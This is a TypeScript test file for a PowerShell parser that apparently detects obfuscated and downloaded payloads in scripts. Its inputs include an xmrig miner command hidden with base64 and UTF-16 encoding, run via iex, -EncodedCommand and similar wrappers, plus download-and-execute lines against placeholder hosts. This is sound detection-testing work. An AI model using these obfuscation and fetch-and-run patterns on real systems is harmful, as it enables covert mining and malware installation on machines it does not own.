// biome-ignore-all lint/suspicious/noTemplateCurlyInString: PowerShell texts are full of them.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { linesOf, powershellRunOf, scriptsOf } from './test-run.ts';

const payload = 'xmrig.exe -o pool.example.com:3333';

function check(cases: readonly (readonly [text: string, commands: readonly string[]])[]): void {
  for (const [text, commands] of cases) {
    assert.deepEqual(linesOf(powershellRunOf(text)), commands, text);
  }
}

test('words, quotes and separators', () => {
  check([
    ["a 'b ''c' \"d`\"e\"; f", ['a b \'c d"e', 'f']],
    ['a | b\nc && d', ['a', 'b', 'c', 'd']],
    ['a `\n b', ['a b']],
    ['# comment\na <# more\n #> b', ['a b']],
    ['if ($x) { a -b } else { c }', ['if', '$x', 'a -b', 'else', 'c']],
    ["a @'\nb\nc\n'@ d", ['a b\nc d']],
    ['& "C:\\x y\\z.exe" -a', ['C:\\x y\\z.exe -a']],
    ['x`m`r', ['xmr']],
    ['', []],
  ]);
});

test('variables and joined texts', () => {
  check([
    ["$a = 'xm'; $b='rig'\n& \"$a$b\" -o", ['xmrig -o']],
    ["$a = 'x' + 'y'; b $a", ['b xy']],
    ["$a = 'x'; $a += 'y'; b ${a}", ['b xy']],
    ['a $env:POOL $other', ['a pool.example.com $other']],
    ['$x = Get-Item a', ['Get-Item a']],
  ]);
  const [command] = powershellRunOf('a $x b').commands;
  assert.deepEqual(
    command?.words.map((word) => word.dynamic),
    [false, true, false],
  );
});

test('texts in texts', () => {
  const base64 = Buffer.from(payload).toString('base64');
  const utf16 = Buffer.from(payload, 'utf16le').toString('base64');
  const texts = [
    `iex '${payload}'`,
    `Invoke-Expression "${payload}"`,
    `'${payload}' | iex`,
    `powershell -EncodedCommand ${utf16}`,
    `pwsh -c "${payload}"`,
    `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64}')))`,
    `$x = '${utf16}'; iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($x)))`,
    `bash -c '${payload}'`,
  ];
  for (const text of texts) {
    const found = powershellRunOf(text).commands.find(
      (command) =>
        command.layers.length > 0 && command.words.map((word) => word.text).join(' ') === payload,
    );
    assert.deepEqual(found?.layers, [payload], text);
  }
  check([
    [
      "Start-Process -FilePath x.exe -ArgumentList '-o p' -NoNewWindow",
      ['Start-Process -FilePath x.exe -ArgumentList -o p -NoNewWindow', 'x.exe -o p'],
    ],
  ]);
});

test('fetches and files that are run', () => {
  const url = 'https://example.com/x.exe';
  const fetches = (text: string) =>
    powershellRunOf(text).fetched.map((f) => [f.url, f.path, f.executed]);
  assert.deepEqual(fetches(`iwr ${url} -OutFile m.exe; .\\m.exe -o p`), [[url, 'm.exe', true]]);
  assert.deepEqual(fetches(`Invoke-WebRequest -Uri "${url}" -OutFile a`), [[url, 'a', false]]);
  assert.deepEqual(
    fetches(`(New-Object Net.WebClient).DownloadFile('${url}','b.exe'); Start-Process b.exe`),
    [[url, 'b.exe', true]],
  );
  const files = scriptsOf('.\\ci\\x.ps1; & ./y.ps1; C:/z.exe', 'powershell');
  assert.deepEqual(files, ['ci/x.ps1', 'y.ps1']);
});
